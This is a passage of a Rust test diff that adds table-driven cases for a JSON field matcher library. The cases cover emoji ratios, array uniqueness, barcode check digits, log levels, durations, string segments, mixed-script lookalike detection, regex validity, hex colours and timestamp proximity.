+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_flag".to_string(),
+                args: vec!["eq".to_string(), "1".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "regional indicator flag should be all emoji".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec!["eq".to_string(), "0".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "empty string should have a ratio of 0".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_heavy".to_string(),
+                args: vec!["gt".to_string(), "2".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "threshold above 1 should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.emoji_heavy".to_string(),
+                args: vec!["0.5".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing operator should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::emoji_ratio, &test_cases);
+}
+
+#[test]
+fn array_unique() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "numbers".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "array of distinct numbers should be unique".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "items".to_string(),
+                args: vec!["price".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "distinct prices should be unique".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "users_unique".to_string(),
+                args: vec!["id".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "number and string ids should be distinct".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "users_duplicate".to_string(),
+                args: vec!["id".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "repeated id should not be unique".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "users_duplicate".to_string(),
+                args: vec!["name".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing sub-path should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "non-array field should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::array_unique, &test_cases);
+}
+
+#[test]
+fn barcode() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_upc_a".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid upc-a should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_upc_a".to_string(),
+                args: vec!["upc_a".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "valid upc-a should match as upc_a".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_upc_a".to_string(),
+                args: vec!["ean_13".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "upc-a should not match as ean_13".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_upc_a_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "upc-a with a bad check digit should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_ean_13".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid ean-13 should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_ean_13".to_string(),
+                args: vec!["ean_13".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "valid ean-13 should match as ean_13".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_ean_13_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "ean-13 with a bad check digit should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_ean_8".to_string(),
+                args: vec!["ean_8".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "valid ean-8 with separator should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.isbn_13".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "bookland isbn-13 is also an ean-13".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.number_as_string".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "generic digit string should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.barcode_upc_a".to_string(),
+                args: vec!["qr".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown symbology should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::barcode, &test_cases);
+}
+
+#[test]
+fn log_level() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_warn".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "warn should be a log level".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_info".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "uppercase INFO should be a log level".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_syslog".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "syslog level 3 should be a log level".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_verbose".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "verbose should not be a log level".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.number_as_string".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "out of range number should not be a log level".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_warn".to_string(),
+                args: vec!["gte".to_string(), "info".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "warn should be at least info".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_info".to_string(),
+                args: vec!["gte".to_string(), "warn".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "info should not be at least warn".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_fatal".to_string(),
+                args: vec![">".to_string(), "error".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "fatal should be more severe than error".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_syslog".to_string(),
+                args: vec!["eq".to_string(), "error".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "syslog 3 should equal error".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_syslog".to_string(),
+                args: vec!["gte".to_string(), "4".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "syslog 3 should be at least syslog 4".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_verbose".to_string(),
+                args: vec!["gte".to_string(), "info".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unrecognized level should not match a comparison".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_warn".to_string(),
+                args: vec!["gte".to_string(), "verbose".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown threshold level should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.log_level_warn".to_string(),
+                args: vec!["info".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing operator should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::log_level, &test_cases);
+}
+
+#[test]
+fn duration() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_90m".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "90m should be a valid duration".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_mixed".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "mixed units with fractions should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_iso".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "iso8601 duration should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "prose should not be a valid duration".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "plain string should not be a valid duration".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_90m".to_string(),
+                args: vec!["eq".to_string(), "1h30m".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "90m should equal 1h30m".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_90m".to_string(),
+                args: vec!["==".to_string(), "PT1H30M".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "90m should equal iso PT1H30M".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_500ms".to_string(),
+                args: vec!["lt".to_string(), "1s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "500ms should be less than 1s".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_500ms".to_string(),
+                args: vec!["gt".to_string(), "1s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "500ms should not be greater than 1s".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_iso_days".to_string(),
+                args: vec!["eq".to_string(), "60h".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "P2DT12H should equal 60h".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_mixed".to_string(),
+                args: vec!["gt".to_string(), "1h30m15s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "fractional seconds should count".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_invalid".to_string(),
+                args: vec!["lt".to_string(), "1s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "invalid field duration should error when comparing".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_90m".to_string(),
+                args: vec!["lt".to_string(), "soon".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "invalid arg duration should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_90m".to_string(),
+                args: vec!["eq".to_string(), "P1Y".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "iso years should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.duration_90m".to_string(),
+                args: vec!["eq".to_string(), "PT1D".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "iso days after T should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::duration, &test_cases);
+}
+
+#[test]
+fn segment() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "1".to_string(), "numeric_equal_to".to_string(), "123".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "second segment should equal 123".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "2".to_string(), "numeric_greater_than".to_string(), "400".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "third segment should be greater than 400".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "0".to_string(), "glob".to_string(), "U*".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "first segment should match glob U*".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "-1".to_string(), "numeric_less_than".to_string(), "400".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "last segment should not be less than 400".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "0".to_string(), "string_equal".to_string(), "US".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "first segment should equal US".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "0".to_string(), "regex".to_string(), "^[A-Z]{2}$".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "first segment should be a country code".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "5".to_string(), "string_equal".to_string(), "US".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "out of range index should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "0".to_string(), "numeric_equal_to".to_string(), "1".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-numeric segment should error for numeric matcher".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "1".to_string(), "not_a_matcher".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown nested matcher should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "one".to_string(), "string_equal".to_string(), "US".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "invalid index should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["-".to_string(), "1".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing nested matcher should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::segment, &test_cases);
+}
+
+#[test]
+fn mixed_script() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.script_latin".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "pure latin should not be mixed".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.script_latin_digits".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "latin with accents, digits and punctuation should not be mixed".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.script_cyrillic".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "pure cyrillic should not be mixed".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.script_lookalike".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "latin with a cyrillic lookalike should be mixed".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "empty string should not be mixed".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::mixed_script, &test_cases);
+}
+
+#[test]
+fn is_regex() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.regex_valid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "valid pattern should compile".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "plain text is a valid pattern".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.regex_invalid".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "unbalanced group should not compile".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.regex_invalid".to_string(),
+                args: vec!["error_on_invalid".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unbalanced group should error when asked to".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.regex_valid".to_string(),
+                args: vec!["error_on_invalid".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "valid pattern should not error".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.regex_valid".to_string(),
+                args: vec!["strict".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown arg should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::is_regex, &test_cases);
+}
+
+#[test]
+fn hex_color() {
+    // Not in SAMPLE_JSON as "# would end its raw string
+    let hex_json = r##"{
+        "rgb": "#fA0",
+        "rgba": "#fA08",
+        "rrggbb": "#FFAA00",
+        "rrggbbaa": "#ffaa0080",
+        "no_hash": "ffaa00",
+        "non_hex": "#ffag00",
+        "bad_length": "#ffaa0"
+    }"##
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "rgb".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "#RGB should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "rgba".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "#RGBA should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "rrggbb".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "#RRGGBB should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "rrggbbaa".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "#RRGGBBAA should be valid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "no_hash".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "missing # prefix should be invalid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "non_hex".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "non-hex character should be invalid".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &hex_json,
+                path: "bad_length".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "5 hex digits should be invalid".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::hex_color, &test_cases);
+}
+
+#[test]
+fn timestamp_close() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["timestamp_plus_3s".to_string(), "5s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "3s apart should be within 5s".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_plus_3s".to_string(),
+                args: vec!["timestamp_unix_num".to_string(), "5s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "order of timestamps should not matter".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
